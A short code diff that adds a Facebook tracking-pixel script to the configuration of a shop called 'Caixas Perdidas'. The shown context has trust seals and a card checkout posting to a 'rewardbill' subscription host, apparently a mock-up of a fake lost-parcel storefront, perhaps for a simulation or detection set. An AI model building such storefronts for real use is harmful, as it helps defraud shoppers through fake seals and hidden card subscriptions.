@@ -58,6 +58,7 @@ export const caixasPerdidas: Shop = {
   footer: { lines: ['Pagamento 100 % seguro'], copyright: '© 2026 Caixas Perdidas' },
   logos: ['Visa', 'Mastercard', 'MB Way'],
   seals: [{ name: 'Norton Secured' }, { name: 'Trustpilot 4.9' }],
+  scripts: ['https://connect.facebook.net/en_US/fbevents.js'],
   checkout: {
     methods: [cardHere('Cartão de crédito ou débito')],
     action: 'https://secure-rewardbill.example/subscribe',
